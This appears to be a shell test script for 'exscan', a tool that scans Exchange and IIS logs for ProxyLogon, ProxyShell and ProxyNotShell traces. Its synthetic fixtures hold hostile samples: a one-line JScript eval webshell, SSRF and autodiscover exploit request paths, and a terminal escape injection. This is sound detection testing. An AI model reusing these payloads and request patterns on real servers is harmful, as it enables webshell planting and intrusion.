#!/usr/bin/env bash
# exscan logs over a generated system drive: every log format, artifacts,
# benign look-alikes, escaping, unreadable files, exit codes.
. "$(dirname "$0")/tap.sh"

ROOT="$TMP/drive"
EX="$ROOT/Program Files/Microsoft/Exchange Server/V15"
mkdir -p "$EX/Logging/HttpProxy/Owa" "$EX/Logging/HttpProxy/Ecp" "$EX/Logging/ECP/Server" \
	"$EX/Logging/OABGeneratorLog" "$EX/Logging/CmdletInfra/Powershell-Proxy/Http" \
	"$ROOT/inetpub/logs/LogFiles/W3SVC1" "$ROOT/Windows/Temp" "$ROOT/ProgramData/COM" \
	"$ROOT/Windows/System32/inetsrv/config"

python3 - "$ROOT" "$EX" <<'PY'
import sys, os
root, ex = sys.argv[1], sys.argv[2]
def w(path, text, enc="utf-8", bom=b""):
    with open(path, "wb") as f:
        f.write(bom + text.encode(enc))
hp_hdr = "DateTime,RequestId,UrlStem,AuthenticatedUser,AnchorMailbox,UserAgent,ClientIpAddress,HttpStatus\r\n"
# Owa: benign only, among them exscan's own probe
w(ex + "/Logging/HttpProxy/Owa/HttpProxy_2021030300-1.LOG", hp_hdr +
  "2021-03-03T00:00:01.000Z,a,/owa/auth/x.js,,ServerInfo~localhost/owa/auth/logon.aspx?~3,exscan,127.0.0.1,200\r\n" +
  "".join("2021-03-03T00:00:%02d.000Z,b,/owa/,user@corp,Smtp~user@corp,Mozilla,10.0.0.%d,200\r\n" % (i, i) for i in range(50)))
# Ecp: SSRF and the webshell write; UTF-16LE with a BOM; an escape character in a user agent
w(ex + "/Logging/HttpProxy/Ecp/HttpProxy_2021030304-1.LOG", hp_hdr +
  "2021-03-03T04:05:06.000Z,c,/ecp/y.js,,ServerInfo~ex01.corp.local:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#,\"ua\x1b[31m, red\",203.0.113.5,200\r\n" +
  "2021-03-03T04:04:00.000Z,d,/ecp/y.js,,\"ServerInfo~ex01.corp.local:444/mapi/emsmdb/?, x\",python,203.0.113.6,241\r\n",
  "utf-16-le", b"\xff\xfe")
w(ex + "/Logging/ECP/Server/ECPServer2021030304-1.LOG",
  "DateTime,ServerName,EventId,Data\n2021-03-03T04:05:10.000Z,EX01,ECP.Request,\"S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load(){eval(Request[\"\"p\"\"],\"\"unsafe\"\");}</script>'.Identity='OAB (Default Web Site)'\"\n")
w(ex + "/Logging/OABGeneratorLog/OABGenerator20210303-1.LOG",
  "2021-03-03T04:06:00.000Z,0,Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' needs to be removed\n")
w(ex + "/Logging/CmdletInfra/Powershell-Proxy/Http/Rps_Http_2022122010-1.LOG",
  "DateTime,RequestId,ClientIpAddress,HttpStatus,ClientInfo\n2022-12-20T10:00:00.000Z,r,192.0.2.20,200,python-requests/2.28.1\n2022-12-20T10:00:01.000Z,r,10.0.0.1,200,Microsoft WinRM Client\n")
w(root + "/inetpub/logs/LogFiles/W3SVC1/u_ex210810.log",
  "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n"
  "2021-08-10 01:02:03 10.0.0.1 GET /autodiscover/autodiscover.json @evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp 443 - 192.0.2.7 Mozilla/5.0+(Windows) - 200 0 0 15\r\n"
  "2021-08-10 01:02:04 10.0.0.1 GET /autodiscover/autodiscover.json @test.com/owa/?&Email=autodiscover/autodiscover.json%3F@test.com 443 - 127.0.0.1 exscan/0.1 - 302 0 0 15\r\n"
  "#Fields: date time c-ip cs-method cs-uri-stem cs-uri-query sc-status cs(User-Agent)\r\n"
  "2021-08-11 01:02:03 192.0.2.8 GET /autodiscover/autodiscover.json @evil.corp/powershell/?X-Rps-CAT=VgEA 401 x")
w(root + "/Windows/Temp/lsass.dmp", "MDMP")
w(root + "/ProgramData/COM/stage.zip", "PK\x03\x04")
w(root + "/Windows/System32/inetsrv/config/applicationHost.config",
  "<configuration>\n<virtualDirectory path=\"/com\" physicalPath=\"C:\\ProgramData\\COM\" />\n</configuration>\n")
PY

rule() { # python: the finding with rule $1 and success $2
	echo "next((f for f in d['hosts'][0]['findings'] if f['rule'] == '$1' and f['success'] == $2), None)"
}

run "$EXSCAN" logs --format json "$ROOT"
expect_rc 1 "findings exit 1"
json_check "HttpProxy webshell write found in a UTF-16 log, with line, time and client" \
	"(lambda f: f['cve'] == 'CVE-2021-27065' and f['line'] == 2 and f['first_seen'] == '2021-03-03T04:05:06Z'
	  and f['clients'] == ['203.0.113.5'] and f['kind'] == 'log' and f['path'].endswith('Ecp/HttpProxy_2021030304-1.LOG'))($(rule httpproxy-ecp-vdir-reset True))"
json_check "anonymous SSRF attempt found (quoted field with a comma)" \
	"(lambda f: f['count'] == 1 and 'emsmdb/?, x' in f['excerpt'])($(rule httpproxy-proxylogon-ssrf-anonymous False))"
json_check "ECP, OABGenerator, Rps_Http, IIS ProxyShell success and failure are found" \
	"($(rule ecp-set-vdir-script True) and $(rule oab-download-outside-oab False) and $(rule rps-owassrf-clientinfo True)
	 and $(rule iis-proxyshell True)['line'] == 2 and $(rule iis-proxyshell False)['line'] == 5)"
json_check "exscan's own probes and normal traffic give nothing else" \
	"len(d['hosts'][0]['findings']) == 10 and not any('localhost' in (f['excerpt'] or '') or 'test.com' in (f['excerpt'] or '') for f in d['hosts'][0]['findings'])"
json_check "artifacts: lsass dump, vdir into ProgramData, and the archive (other indicators exist)" \
	"($(rule artifact-lsass-dump False)['kind'] == 'artifact' and $(rule artifact-vdir-programdata False)
	 and $(rule artifact-programdata-archive False))"
json_check "timeline per day and campaign, oldest first" \
	"(d['hosts'][0]['timeline'][0] == {'date': '2021-03-03', 'campaign': 'ProxyLogon', 'attempts': 2, 'successes': 2}
	 and [t['date'] for t in d['hosts'][0]['timeline']] == sorted(t['date'] for t in d['hosts'][0]['timeline']))"
json_check "stats count the files read" "d['hosts'][0]['stats']['files'] == 9 and d['hosts'][0]['errors'] == []"

if [ -f "$EXSCAN_SRCDIR/../shared/tools/check-output-contract.py" ]; then
	python3 "$EXSCAN_SRCDIR/../shared/tools/check-output-contract.py" walk "$TMP/out" >"$TMP/contract" 2>&1
	tap_ok $? "JSON meets the shared output contract (walk shape)" "$(cat "$TMP/contract")"
else
	tap_skip "JSON meets the shared output contract (walk shape)" "../shared is not there"
fi

run "$EXSCAN" logs --no-color "$ROOT"
grep -q $'\033' "$TMP/out"
tap_ok $(( ! $? )) "an escape character from a log never reaches the terminal" "$(cat -v "$TMP/out" | head -20)"
grep -q 'ua\\x1b\[31m, red' "$TMP/out"
tap_ok $? "it is shown escaped" "$(head -20 "$TMP/out")"
grep -q "^    2021-03-03  ProxyLogon  *2 attempts  *2 successes" "$TMP/out"
tap_ok $? "text output shows the timeline" "$(cat "$TMP/out")"

# an archive alone is not reported
mkdir -p "$TMP/quiet/ProgramData/x"
printf 'PK\003\004' >"$TMP/quiet/ProgramData/x/backup.zip"
run "$EXSCAN" logs --format json "$TMP/quiet"
expect_rc 0 "an archive without other indicators exits 0"
json_check "and gives no finding" "d['hosts'][0]['findings'] == []"

# a single file outside known locations needs --kind
cp "$ROOT/inetpub/logs/LogFiles/W3SVC1/u_ex210810.log" "$TMP/some.log"
run "$EXSCAN" logs "$TMP/some.log"
expect_rc 3 "a file in no known location is not read without --kind"
grep -q "give --kind" "$TMP/err"
tap_ok $? "the error says what to do" "$(cat "$TMP/err")"
run "$EXSCAN" logs --kind iis --format json "$TMP/some.log"
json_check "--kind iis reads it" "$(rule iis-proxyshell True) is not None"
run "$EXSCAN" logs --kind bogus "$TMP/some.log"
expect_rc 2 "an unknown --kind is a usage error"

# unreadable files: as nobody, the scan goes on and exits 3
if command -v setpriv >/dev/null && [ "$(id -u)" -eq 0 ]; then
	chmod 755 "$TMP"
	chmod -R a+rX "$ROOT"
	chmod 000 "$EX/Logging/OABGeneratorLog/OABGenerator20210303-1.LOG"
	setpriv --reuid=nobody --regid=nogroup --clear-groups "$EXSCAN" logs --format json --fail-on never "$ROOT" >"$TMP/out" 2>"$TMP/err"
	RC=$?
	expect_rc 3 "an unreadable log makes the scan incomplete"
	lines=$(wc -l <"$TMP/err")
	grep -q "cannot open '.*OABGenerator20210303-1.LOG': Permission denied" "$TMP/err"
	tap_ok $(( $? + (lines != 1) )) "one line names the unreadable file" "$(cat "$TMP/err")"
	json_check "everything else is still reported" \
		"len(d['hosts'][0]['findings']) == 9 and len(d['hosts'][0]['errors']) == 1"
else
	tap_skip "an unreadable log makes the scan incomplete" "needs root and setpriv"
fi

# ProxyShell discovery through autodiscover.xml and emsmdb, then PowerShell:
# one success spanning the chain; an undecided 2022 request names both CVEs
mkdir -p "$TMP/ps/inetpub/logs/LogFiles/W3SVC1"
printf '%s\r\n' \
	'#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status' \
	'2021-08-12 10:00:00 10.0.0.1 GET /autodiscover/autodiscover.json @x.example/autodiscover/autodiscover.xml?&Email=autodiscover/autodiscover.json%3F@x.example 443 - 203.0.113.50 python 200' \
	'2021-08-12 10:00:05 10.0.0.1 POST /autodiscover/autodiscover.json @x.example/mapi/emsmdb/?&Email=autodiscover/autodiscover.json%3F@x.example 443 - 203.0.113.50 python 200' \
	'2021-08-12 10:02:00 10.0.0.1 POST /autodiscover/autodiscover.json @x.example/powershell/?X-Rps-CAT=VgEA&Email=autodiscover/autodiscover.json%3F@x.example 443 - 203.0.113.50 python 200' \
	'2022-11-02 08:00:00 10.0.0.1 GET /autodiscover/autodiscover.json @x.example/Powershell 443 - 198.51.100.77 python 401' \
	>"$TMP/ps/inetpub/logs/LogFiles/W3SVC1/u_ex210812.log"
run "$EXSCAN" logs --format json "$TMP/ps"
json_check "the ProxyShell chain is one success with its first and last time" \
	"(lambda f: f['count'] == 3 and f['first_seen'] == '2021-08-12T10:00:00Z' and f['last_seen'] == '2021-08-12T10:02:00Z'
	  and f['clients'] == ['203.0.113.50'] and f['cve'] == 'CVE-2021-34473')($(rule iis-proxyshell True))"
json_check "the undecided request names both CVEs" \
	"(lambda f: f['cve'] == 'CVE-2021-34473,CVE-2022-41040' and f['campaign'] == 'ProxyShell/ProxyNotShell')($(rule iis-proxyshell-or-proxynotshell False))"
run "$EXSCAN" logs --no-color "$TMP/ps"
grep -q "ProxyShell/ProxyNotShell CVE-2021-34473,CVE-2022-41040 iis-proxyshell-or-proxynotshell: attempt" "$TMP/out"
tap_ok $? "text output names both CVEs" "$(cat "$TMP/out")"

tap_done
